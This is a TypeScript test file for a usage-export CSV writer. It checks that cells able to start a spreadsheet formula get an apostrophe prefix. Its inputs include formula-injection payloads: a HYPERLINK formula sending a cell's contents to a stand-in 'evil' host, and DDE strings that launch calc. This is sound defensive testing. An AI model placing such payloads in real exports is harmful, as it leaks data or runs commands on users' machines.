// CSV of an export holds no cell that a spreadsheet runs as a formula.

import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { ExportUsageResponseSchema } from "../../../gen/es/weir/inference/v1alpha1/usage_service_pb.ts";
import { csvFormOf } from "../../../server/rpc/rest/csv.ts";

const form = csvFormOf(ExportUsageResponseSchema)!;

/** The cells of a line, as a reader of RFC 4180 has them. */
function cellsOf(line: string): string[] {
  const cells = `,${line}`.matchAll(/,(?:"((?:[^"]|"")*)"|([^",]*))/g);
  return [...cells].map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare!);
}

const modelCell = (model: string): string => cellsOf(form.line({ usage: { model } }))[3]!;

describe("a cell", () => {
  it.each([
    "=1+1",
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-a",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\u3000=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "--1",
    "-1e",
    "=",
  ])("begins with an apostrophe where the text is %j", (model) => {
    expect(modelCell(model)).toBe(`'${model}`);
  });

  it.each(["llama-3", "-5", "+5.25", "a=b", "a+b@c", "'quoted'", 'a "b", c', "", "ünï"])("keeps %j", (model) => {
    expect(modelCell(model)).toBe(model);
  });

  it("of a number keeps its sign", () => {
    const usage = { cost: -0.5, requests: "12", startTime: "2027-01-31T12:00:00Z" };
    const cells = cellsOf(form.line({ usage }));
    expect([cells[0], cells[7], cells[13]]).toEqual(["2027-01-31T12:00:00Z", "12", "-0.5"]);
  });

  it("never begins as a formula, whatever the text, and the row keeps its columns", () => {
    const unit = fc.constantFrom(
      "=",
      "+",
      "-",
      "@",
      "＝",
      "＋",
      "－",
      "＠",
      "\t",
      "\r",
      "\n",
      " ",
      '"',
      ",",
      ";",
      "1",
      ".",
      "a",
    );
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 8 }), (model) => {
        const cells = cellsOf(form.line({ usage: { model } }));
        expect(cells).toHaveLength(form.head.split(",").length);
        expect([model, `'${model}`]).toContain(cells[3]);
        if (!/^[+-]?\d+(\.\d+)?$/.test(cells[3]!)) expect(cells[3]).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/);
      }),
    );
  });
});
